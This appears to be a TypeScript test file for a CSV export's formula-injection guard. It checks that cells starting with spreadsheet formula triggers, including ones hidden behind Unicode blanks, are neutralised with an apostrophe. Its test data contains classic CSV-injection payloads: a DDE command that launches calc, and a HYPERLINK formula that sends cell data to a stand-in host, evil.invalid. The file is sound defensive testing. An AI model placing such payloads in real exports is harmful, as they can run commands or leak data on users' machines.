import { PassThrough } from 'node:stream';
import { text as readAll } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CellValue, Column } from '../../src/domain/column.js';
import { CsvLineEncoder } from '../../src/render/csv/csv-line-encoder.js';
import { csvStringifyOptions } from './csv/csv-stringify-options.js';
import { CsvTableWriter } from '../../src/render/csv/csv-table-writer.js';
import { FORMULA_TRIGGERS, guardFormula, startsLikeFormula } from '../../src/render/formula-guard.js';

const TRIGGERS = Object.keys(FORMULA_TRIGGERS);

describe('guardFormula', () => {
  it.each(TRIGGERS.map((c) => [JSON.stringify(c), c]))('prefixes a text starting with %s', (_name, c) => {
    expect(guardFormula(`${c}SUM(A1:A9)`)).toBe(`'${c}SUM(A1:A9)`);
    expect(guardFormula(c)).toBe(`'${c}`);
    expect(startsLikeFormula(c)).toBe(true);
  });

  it.each([
    '',
    'Ivan',
    '12',
    "'=1+2",
    'a=b',
    '😀=',
    'Ж',
    '#REF!',
    '(1)',
    '%',
    ' leading space',
    '\u00a0Ivan',
    '\u200bIvan',
    '   ',
    '\u3000日本',
    ' 12',
    '\n\nline',
  ])('leaves %j alone', (text) => {
    expect(guardFormula(text)).toBe(text);
  });

  it('guards the classic payloads', () => {
    expect(guardFormula("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(guardFormula("@SUM(1+9)*cmd|' /C calc'!A0")).toMatch(/^'@/);
    expect(guardFormula('=HYPERLINK("http://evil.invalid?"&A1,"Click")')).toMatch(/^'=/);
    expect(guardFormula('\uFF1D1+1')).toBe("'\uFF1D1+1");
  });

  it.each([
    ['a space', ' =1+1'],
    ['spaces and a tab', '  \t x'],
    ['a no-break space', '\u00a0=HYPERLINK("http://evil.invalid","x")'],
    ['an ideographic space', '\u3000@SUM(1)'],
    ['a line feed', '\n=1'],
    ['NEL (U+0085)', '\u0085=1'],
    ['a zero-width space', '\u200b=1+1'],
    ['a BOM', '\uFEFF+1'],
    ['a word joiner and a line separator', '\u2060\u2028-1'],
    ['the Mongolian vowel separator (U+180E)', '\u180e=1'],
    ['a soft hyphen', '\u00ad=1'],
    ['a right-to-left mark', '\u200f@x'],
    ['a tag character (astral, Cf)', '\u{E0020}=1'],
    ['a control character', '\u0001=1'],
    ['a full-width trigger', ' \uFF1D1'],
  ])('guards a trigger behind %s', (_name, text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
  });

  // csv-stringify looks at the first character only; we also look behind leading blanks and guard
  // a leading NUL. The oracle states both extensions on its own terms (\s and U+0085 for white
  // space, Cc and Cf by general category), and is csv-stringify everywhere else.
  const BLANK = /^[\s\u0085\p{Cc}\p{Cf}]$/u;
  function guardedBeyondCsvStringify(text: string): boolean {
    if (text.startsWith('\0')) return true;
    const chars = [...text];
    let i = 0;
    while (i < chars.length && BLANK.test(chars[i] ?? '')) {
      if (['\t', '\r', '\0'].includes(chars[i] ?? '')) return true;
      i++;
    }
    return i > 0 && i < chars.length && TRIGGERS.includes(chars[i] ?? '');
  }

  it("equals csv-stringify's escape_formulas on text cells, plus triggers behind leading blanks and NUL", () => {
    const encoder = new CsvLineEncoder(',');
    const options = { ...csvStringifyOptions(['a'], { delimiter: ',', bom: false }), header: false };
    const blanks = [
      ' ',
      '\u00a0',
      '\u3000',
      '\u200b',
      '\uFEFF',
      '\n',
      '\u0085',
      '\u2060',
      '\u180e',
      '\u{E0001}',
      '\u0001',
    ];
    const dangerous = fc.constantFrom(...TRIGGERS, ...blanks, 'a', '"', ',', "'", '1');
    let extended = 0;
    fc.assert(
      fc.property(
        fc.oneof(fc.string({ unit: dangerous, maxLength: 6 }), fc.string({ unit: 'grapheme', maxLength: 8 })),
        (text) => {
          const ours = encoder.line([guardFormula(text)]);
          const beyond = guardedBeyondCsvStringify(text);
          if (beyond) extended++;
          const expected = beyond
            ? stringify([[`'${text}`]], { ...options, escape_formulas: false })
            : stringify([[text]], { ...options, escape_formulas: true });
          expect(ours).toBe(expected);
        },
      ),
      { numRuns: 3000 },
    );
    // The oracle's own extension was exercised, not only csv-stringify's rule.
    expect(extended).toBeGreaterThan(100);
  });
});

interface Row {
  readonly comment: string | null;
  readonly lon: number;
  readonly offset: number;
  readonly delta: number;
}

const COLUMNS: readonly Column<Row>[] = [
  { name: 'comment', header: 'Comment', kind: 'text', width: 20, description: '', value: (r) => r.comment },
  { name: 'lon', header: 'Longitude', kind: 'number', width: 9, description: '', value: (r) => r.lon },
  { name: 'offset', header: 'Offset', kind: 'offset', width: 6, description: '', value: (r) => r.offset },
  {
    name: 'delta',
    header: 'Delta',
    kind: 'decimal',
    places: 2,
    width: 6,
    description: '',
    value: (r) => r.delta,
  },
];

async function csvOf(rows: readonly Row[]): Promise<string[][]> {
  const sink = new PassThrough();
  const read = readAll(sink);
  const writer = new CsvTableWriter(COLUMNS, sink, { delimiter: ';', bom: true });
  for (const row of rows) await writer.write(row);
  await writer.end();
  return parse(await read, { bom: true, delimiter: ';' }) as string[][];
}

describe('the formula guard in a written CSV file', () => {
  it('is there when an independent parser reads the file back, and numbers keep their sign', async () => {
    const rows: Row[] = TRIGGERS.map((c, i) => ({
      comment: `${c}1+2;"x"`,
      lon: -12 - i,
      offset: -300,
      delta: -1.5,
    }));
    const cells = await csvOf(rows);
    expect(cells[0]).toEqual(['comment', 'lon', 'offset', 'delta']);
    TRIGGERS.forEach((c, i) => {
      expect(cells[i + 1]).toEqual([`'${c}1+2;"x"`, String(-12 - i), '-05:00', '-1.50']);
    });
  });

  it('is there before formulas behind leading white space, read back by an independent parser', async () => {
    const texts = [' =1+1', '\u00a0=HYPERLINK("http://evil.invalid","x")', '\u3000@SUM(1)', '\u200b-1'];
    const cells = await csvOf(texts.map((comment) => ({ comment, lon: 1, offset: 0, delta: 0 })));
    expect(cells.slice(1).map((r) => r[0])).toEqual(texts.map((text) => `'${text}`));
  });

  it('leaves harmless text, empty and null cells as they were', async () => {
    const value = (comment: CellValue): Row => ({
      comment: comment as string | null,
      lon: 30.5,
      offset: 180,
      delta: 0,
    });
    const cells = await csvOf([value('Left early'), value(''), value(null), value("'quoted already")]);
    expect(cells.slice(1).map((r) => r[0])).toEqual(['Left early', '', '', "'quoted already"]);
    expect(cells[1]).toEqual(['Left early', '30.5', '+03:00', '0.00']);
  });
});
